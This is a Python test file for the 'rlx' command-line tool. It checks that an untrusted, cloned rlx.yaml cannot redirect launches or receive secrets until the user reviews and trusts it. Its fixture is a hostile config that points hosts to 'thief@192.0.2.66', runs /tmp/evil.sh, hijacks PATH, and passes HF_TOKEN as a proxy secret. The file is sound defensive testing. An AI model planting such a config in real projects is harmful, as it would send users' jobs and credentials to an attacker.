"""A project's rlx.yaml counts once its content is trusted: a cloned one redirects no launch and gets no secret."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from rlx.errors import UsageError
from rlx.hosts import default_host, known_hosts, site_of, user_file
from tests.cli.support import rlx, trust_project
from tests.conftest import REPOSITORY

HOSTILE = """
hosts:
  local: {setup: [/tmp/evil.sh]}
  a3: {ssh: thief@192.0.2.66, setup: [/tmp/evil.sh], env: {PATH: /tmp/evil}, proxies: {https_proxy: {secret: HF_TOKEN}}}
  new: {ssh: thief@192.0.2.67, root: /data/rlx}
defaults: {host: new}
"""


@pytest.fixture
def project(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.setenv("HOME", str(tmp_path))
    monkeypatch.setenv("PYTHONPATH", str(REPOSITORY))
    monkeypatch.delenv("RLX_PROJECT")
    (tmp_path / "clone").mkdir()
    monkeypatch.chdir(tmp_path / "clone")
    user_file().parent.mkdir(parents=True)
    user_file().write_text("hosts: {a3: {ssh: me@npu-host-1}}\n", encoding="utf-8")
    path = tmp_path / "clone/rlx.yaml"
    path.write_text(HOSTILE, encoding="utf-8")
    return path


def test_an_untrusted_file_changes_no_host(project: Path) -> None:
    assert site_of("a3").place.destination == "me@npu-host-1"
    assert site_of("local").setup == ()
    assert set(known_hosts()) == {"local", "a3"}
    assert default_host().host == "local"


def test_an_untrusted_file_that_is_needed_is_an_error(project: Path) -> None:
    with pytest.raises(UsageError, match=r"host new is named only by .*rlx\.yaml, whose content you have not trusted"):
        site_of("new")
    with pytest.raises(UsageError, match=r"where this goes is said by .*rlx\.yaml"):
        site_of()
    done = rlx("launch", "tiny-cpu", code=2)
    assert "rlx hosts trust shows what it would change" in done.stderr
    # A name with a dot could be a destination of its own: not what the file makes of it, nor around it.
    project.write_text("hosts: {npu.example.org: {ssh: thief@192.0.2.66}}\n", encoding="utf-8")
    with pytest.raises(UsageError, match="not trusted"):
        site_of("npu.example.org")


def test_the_user_sees_what_it_changes(project: Path) -> None:
    shown = rlx("hosts", "trust", "-y").stdout
    for line in (
        "host a3: REPLACES yours (me@npu-host-1",
        "goes to thief@192.0.2.66",
        "runs first: /tmp/evil.sh",
        "sets PATH=/tmp/evil",
        "receives the secret HF_TOKEN as https_proxy",
        "host local: CHANGES this machine",
        "host new: new",
        "where a launch goes that names no host: new",
    ):
        assert line in shown
    assert site_of("a3").place.destination == "thief@192.0.2.66"
    assert site_of().host == "new"


def test_nobody_is_taken_to_agree(project: Path) -> None:
    assert "nobody can be asked" in rlx("hosts", "trust", code=2).stderr
    assert set(known_hosts()) == {"local", "a3"}


def test_a_change_asks_again(project: Path) -> None:
    trust_project()
    project.write_text(HOSTILE.replace("192.0.2.67", "192.0.2.68"), encoding="utf-8")
    with pytest.raises(UsageError, match="not trusted"):
        site_of("new")
    assert site_of("a3").place.destination == "me@npu-host-1"
    assert "does not count" in rlx("hosts").stderr
    trust_project()
    assert site_of("new").place.destination == "thief@192.0.2.68"


def test_the_same_content_elsewhere_is_another_file(
    project: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    trust_project()
    (tmp_path / "other").mkdir()
    (tmp_path / "other/rlx.yaml").write_text(HOSTILE, encoding="utf-8")
    monkeypatch.chdir(tmp_path / "other")
    with pytest.raises(UsageError, match="not trusted"):
        site_of("new")


def test_an_entry_that_the_user_writes_later_is_not_replaced(project: Path) -> None:
    trust_project()
    user_file().write_text("hosts: {a3: {ssh: me@npu-host-1}, new: {ssh: me@npu-host-2}}\n", encoding="utf-8")
    assert site_of("new").place.destination == "me@npu-host-2"
    assert site_of("a3").place.destination == "thief@192.0.2.66"


def test_a_name_of_the_ssh_config_is_the_users(project: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    trust_project()
    (tmp_path / "ssh_config").write_text("Host new\n", encoding="utf-8")
    monkeypatch.setenv("RLX_SSH_CONFIG", str(tmp_path / "ssh_config"))
    assert site_of("new").place.destination == "new"


def test_an_entry_is_added_to_no_untrusted_file_unseen(project: Path) -> None:
    assert "is not trusted, so this does not count" in rlx("hosts", "add", "b1", "me@b", "--project").stderr
    assert set(known_hosts()) == {"local", "a3"}


def test_an_empty_file_needs_no_trust(project: Path) -> None:
    project.write_text("\n", encoding="utf-8")
    assert site_of().host == "local"
    hosts = json.loads(rlx("hosts", "list", "--json").stdout)["hosts"]
    assert [host["name"] for host in hosts] == ["local", "a3"]
